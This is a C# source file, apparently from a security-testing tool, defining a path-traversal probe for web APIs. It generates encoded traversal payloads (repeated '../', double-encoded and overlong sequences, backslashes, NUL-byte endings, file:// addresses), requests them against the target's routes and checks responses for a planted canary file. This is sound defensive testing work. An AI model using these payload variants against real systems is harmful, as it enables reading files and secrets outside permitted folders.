using Lighthouse.Security.Penetration.Fuzzing;
using Lighthouse.Security.Wire;

namespace Lighthouse.Security.Penetration.Classes;

/// <summary>A file that lies beside the target and that only a way out of its folders leads to; proven by its content.</summary>
internal sealed class Traversal : IPenetrationClass
{
    private const int Up = 16;

    public string Name => PenetrationClasses.Traversal;

    public IEnumerable<Payload> Payloads(Canaries canaries)
    {
        var file = canaries.SecretFile;
        var inside = file.TrimStart('/');
        var dots = string.Concat(Enumerable.Repeat("../", Up));
        yield return new(Name, "way up", dots + inside) { IsCore = true };
        yield return new(Name, "absolute path", file) { IsCore = true };
        yield return new(Name, "way up, slashes as they are", dots + inside) { Encoded = dots + inside };
        yield return new(Name, "way up, dots encoded", dots + inside) { Encoded = string.Concat(Enumerable.Repeat("%2e%2e/", Up)) + inside };
        yield return new(Name, "way up, encoded twice", dots + inside) { Encoded = string.Concat(Enumerable.Repeat("%252e%252e%252f", Up)) + Uri.EscapeDataString(Uri.EscapeDataString(inside)) };
        yield return new(Name, "way up, overlong", dots + inside) { Encoded = string.Concat(Enumerable.Repeat("..%c0%af", Up)) + inside };
        yield return new(Name, "way up, backslashes", string.Concat(Enumerable.Repeat("..\\", Up)) + inside.Replace('/', '\\'));
        yield return new(Name, "way up, doubled", string.Concat(Enumerable.Repeat("....//", Up)) + inside);
        yield return new(Name, "way up from a known folder", $"src/{dots}{inside}");
        yield return new(Name, "absolute path, ended by NUL", file + "\0.json");
        yield return new(Name, "file address", $"file://{file}");
    }

    public IEnumerable<Suspicion> Inspect(Exchange exchange, Canaries canaries)
    {
        if (exchange.Shows(canaries.Secret))
            yield return new($"a path in {exchange.Mutant.Where} leads to a file outside", PenetrationFlaws.File);
    }

    /// <summary>The path of the request itself.</summary>
    public async Task ProbeAsync(PenetrationRun run, CancellationToken cancellation)
    {
        var roots = run.Operations.Select(operation => $"/{operation.Path.Split('/')[1]}").Where(root => !root.Contains('{')).Distinct().Append("").ToList();
        foreach (var root in roots)
        {
            foreach (var payload in Payloads(run.Canaries))
            {
                var request = new RawRequest("GET", $"{root}/{payload.Encoded.TrimStart('/')}") { Headers = [.. run.Context.Headers] };
                var (response, _) = await run.SendAsync(request, cancellation);
                run.Log.Attempt(Name, response is null ? Answer.Unclear : Answer.Refused);
                if (response?.Body.Contains(run.Canaries.Secret, StringComparison.Ordinal) == true)
                    run.Log.Find(Name, $"GET {root}/: the path leads to a file outside", PenetrationFlaws.File, request, response);
            }
        }
    }
}
